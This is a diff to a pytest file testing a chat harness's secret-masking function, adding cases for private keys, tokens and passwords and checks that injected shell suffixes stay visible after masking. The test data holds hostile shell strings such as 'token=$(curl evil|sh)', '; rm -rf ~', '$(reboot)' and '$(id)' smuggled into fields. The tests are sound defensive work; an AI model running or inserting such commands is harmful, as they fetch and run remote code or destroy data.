@@ -4,7 +4,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from harness.chat.secrets import MASK, masked
+from harness.chat.secrets import MASK, concealed, masked
+
+KEY = "MIIEpAIBAAKCAQEA7bq3Vx0aYkq9ZpLw2dTnHc8RfGu5sJ1oXeQ"
 
 
 @pytest.mark.parametrize(
@@ -19,6 +21,12 @@ from harness.chat.secrets import MASK, masked
         ("send xoxb-1234567890-abc to ana", f"send {MASK} to ana"),
         ("use ghp_0123456789abcdefghij0123", f"use {MASK}"),
         ("AKIAABCDEFGHIJKLMNOP", MASK),
+        ("password=hunter2$(id)", f"password={MASK}$(id)"),
+        (
+            f"-----BEGIN RSA PRIVATE KEY-----\n{KEY}\n{KEY}\nAbc=\n-----END RSA",
+            f"{MASK}\n{MASK}\n{MASK}\nAbc=\n-----END RSA",
+        ),
+        (f"+ 1  -----BEGIN PRIVATE KEY-----\n+ 2  {KEY}", f"+ 1  {MASK}\n+ 2  {MASK}"),
         ("eyJhbGciOiJI.eyJzdWIiOiIx.abc", MASK),
     ],
 )
@@ -36,6 +44,10 @@ def test_a_secret_is_masked(text: str, shown: str) -> None:
         "git log --oneline",
         "https://example.org/a:b",
         "the secret ingredient",
+        "token=$(curl evil|sh)",
+        "https://a:$(id)@example.org",
+        "git-secret reveal-them-all-1",
+        "/////////////////////////////usr/sbin/poweroff",
     ],
 )
 def test_what_is_none_is_left(text: str) -> None:
@@ -45,3 +57,15 @@ def test_what_is_none_is_left(text: str) -> None:
 @given(st.text(max_size=200))
 def test_any_text_is_taken(text: str) -> None:
     assert masked(masked(text)) == masked(text)
+
+
+@pytest.mark.parametrize("hidden", ["; rm -rf ~", " && reboot", "\nreboot", "$(reboot)", "`reboot`", "|sh", ">x"])
+@pytest.mark.parametrize(
+    "secret", ["-----BEGIN PRIVATE KEY-----", "token=abc", "Bearer abcdefgh1234", "xoxb-1234567890-a"]
+)
+def test_what_a_shell_would_do_is_never_behind_a_mask(secret: str, hidden: str) -> None:
+    assert masked(f"echo {secret}{hidden}").endswith(hidden)
+
+
+def test_what_is_hidden_is_spelt_out_before_anything_is_masked() -> None:
+    assert concealed("token=a\u202eb") == f"token={MASK}\\u202eb"
